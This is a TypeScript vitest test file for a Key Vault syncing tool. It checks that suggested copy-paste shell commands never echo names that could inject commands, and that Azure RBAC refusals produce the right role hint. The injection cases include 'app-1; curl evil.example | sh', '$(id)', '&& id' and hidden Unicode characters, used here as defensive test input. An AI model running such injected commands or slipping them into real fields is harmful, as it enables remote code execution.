import { describe, expect, it } from 'vitest';
import { keyVaultFailure } from '../../shared/adapters/key-vault/failure.ts';
import { CODES, type Code, VaultcastError } from '../../shared/errors.ts';
import { adviceOf } from '../../shared/output/advice.ts';
import { targetDocument } from '../../shared/output/target.ts';
import { aRow } from '../cli/rows.ts';

const FIELDS = ['cluster', 'namespace', 'name', 'route', 'vault', 'secret', 'run', 'problem'];
const codes = Object.keys(CODES) as Code[];
const helpsWith = (value: string): string[] => {
  const known = Object.fromEntries(FIELDS.map((field) => [field, value]));
  return codes.flatMap((code) => adviceOf(code, known).help ?? []);
};
const unknown = codes.flatMap((code) => adviceOf(code, {}).help ?? []);

describe('the command that helps, which people copy into a shell', () => {
  it.each(['weu-1', 'app-1--pg--password', 'tls.crt', '20261121T101500Z-3fa9c1aa', "'message:push'"])(
    'names what it is about: %s',
    (name) => {
      const helps = helpsWith(name);

      expect(helps.filter((help) => help.includes(name)).length).toBeGreaterThan(20);
    },
  );

  it.each([
    'app-1; curl evil.example | sh',
    '$(id)',
    '`id`',
    "'message:push'; id; '",
    "'",
    'a\nid',
    'a && id',
    'a > b',
    '~/x',
    '*',
    '--registry=https://evil.example',
    '-rf',
    'app\u202e1',
    'app\u200b-1',
    '',
  ])('asks for a word where a row holds what can be no name: %j', (name) => {
    expect(helpsWith(name)).toEqual(unknown);
  });
});

/** What a 403 of a vault with Azure RBAC becomes, as a row of a target keeps it. */
function helpFor(kind: 'secret' | 'certificate', innererror: string): string | undefined {
  const error = {
    statusCode: 403,
    code: 'Forbidden',
    details: { error: { innerError: { code: innererror } } },
  };
  const asked = { vault: 'team', name: 'app-1--certificate--x', kind };
  const failure = keyVaultFailure(error, { asked, refused: undefined }, 0);
  if (!(failure instanceof VaultcastError)) throw new TypeError('it is no failure');
  const { code, message } = failure;
  return targetDocument(aRow({ state: 'degraded', code, message })).status.help;
}

describe('the command that helps where a vault refuses the identity', () => {
  it.each(['ForbiddenByRbac', 'ForbiddenByFirewall', 'ForbiddenByPolicy', 'Other'])(
    'gives the role of what was asked for: %s',
    (inner) => {
      expect(helpFor('secret', inner)).toContain('--role "Key Vault Secrets User" ');
      expect(helpFor('certificate', inner)).toContain('--role "Key Vault Certificate User" ');
    },
  );
});
